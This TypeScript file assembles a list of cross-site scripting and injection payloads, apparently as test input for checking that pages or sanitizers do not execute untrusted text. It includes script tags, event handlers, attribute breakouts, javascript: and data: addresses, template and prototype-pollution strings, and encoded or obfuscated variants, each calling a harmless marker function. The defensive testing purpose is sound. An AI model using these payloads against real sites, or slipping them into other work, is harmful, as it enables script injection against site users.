/**
 * Text that runs where a page takes it for more than text: each calls `hit`, by another way. Ways of the published
 * lists, for elements, attributes, addresses, scripts, styles, templates, SVG, and for parsers that mend what is broken.
 */

/** The function that a payload calls, which no page has. */
export const trap = "hit"
const call = `${trap}()`

const handlers = [
  "onload",
  "onerror",
  "onfocus autofocus tabindex=1",
  "onpointerover",
  "onmouseover",
  "onanimationstart",
  "onbegin",
  "ontoggle",
  "onclick"
].map((handler) => {
  const [name = "", ...rest] = handler.split(" ")
  return { name, rest: rest.map((one) => ` ${one}`).join("") }
})

const elements = [
  "img src=x",
  "svg",
  "body",
  "video src=x",
  "details open",
  "input",
  "iframe src=x",
  "a href=x"
]

/** Every element with some of the handlers. */
const events = elements.flatMap((element, i) =>
  handlers.filter((_, n) => (n + i) % 2 === 0).map(({ name, rest }) => `<${element} ${name}=${call}${rest}>`)
)

const scripts = [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script src=data:,${call}></script>`,
  `<script type=module>${call}</script>`,
  `</script><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `</template><script>${call}</script>`,
  `-->${"<"}script>${call}</script>`,
  `]]><script>${call}</script>`,
  `<<script>${call}//<</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script/x>${call}</script>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script xlink:href=data:,${call} />`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`
]

const attributes = [
  `" onmouseover="${call}`,
  `' onmouseover='${call}`,
  `" autofocus onfocus="${call}" x="`,
  `' autofocus onfocus='${call}' x='`,
  `"><img src=x onerror=${call}>`,
  `'><img src=x onerror=${call}>`,
  `\`><img src=x onerror=${call}>`,
  `x" style="animation-name:x" onanimationstart="${call}`,
  `" srcdoc="<script>${call}</script>`,
  `" formaction="javascript:${call}`
]

const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `javascript:${call}//http://example.org`,
  `javascript://%0a${call}`,
  `java&#115;cript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==`,
  `vbscript:${call}`,
  `//evil.example/%22onload=${call}`,
  `<a href="javascript:${call}">x</a>`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<base href="javascript:/a/-${call}//">`,
  `<link rel=stylesheet href="javascript:${call}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<math href="javascript:${call}">x</math>`,
  `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  `<svg><animate attributeName=href values=javascript:${call} />`,
  `../../sign-in?to=javascript:${call}`,
  `..%2f..%2f<svg onload=${call}>`
]

const codes = [
  `';${call};'`,
  `";${call};"`,
  `\\";${call};//`,
  `\`\${${call}}\``,
  `${"$"}{${call}}`,
  `{{${call}}}`,
  `{{constructor.constructor('${call}')()}}`,
  `#{${call}}`,
  `<%= ${call} %>`,
  `[[${call}]]`,
  `'-${call}-'`,
  `"-${call}-"`,
  `</script>'"-->${"<"}svg onload=${call}>`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${call}>"}}`,
  `__proto__[innerHTML]=<img src=x onerror=${call}>`,
  `constructor`,
  `__proto__`
]

const escapes = [
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${call}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  `<img src=x onerror=&#104;&#105;&#116;()>`,
  `<img/src=x/onerror=${call}>`,
  `<img src=x onerror\u00a0=${call}>`,
  `\u2028${call}\u2029`,
  `\u202e>tpircs/<${call}>tpircs<`,
  `<x contenteditable onblur=${call}>lose focus</x>`,
  `<style>@import'data:text/css,*{}';</style><style onload=${call}></style>`,
  `<style>*{background:url("javascript:${call}")}</style>`,
  `<div style="width:expression(${call})">`,
  `<xss id=x tabindex=1 onfocus=${call}></xss>`,
  `<dialog open onclose=${call}><form method=dialog><button>x`,
  `<marquee onstart=${call}>x</marquee>`,
  `<template shadowrootmode=open><script>${call}</script></template>`
]

/** Of at most 200 characters, without control characters: an identifier may be any of them. */
export const payloads: ReadonlyArray<string> = [
  ...scripts,
  ...events,
  ...attributes,
  ...addresses,
  ...codes,
  ...escapes
]
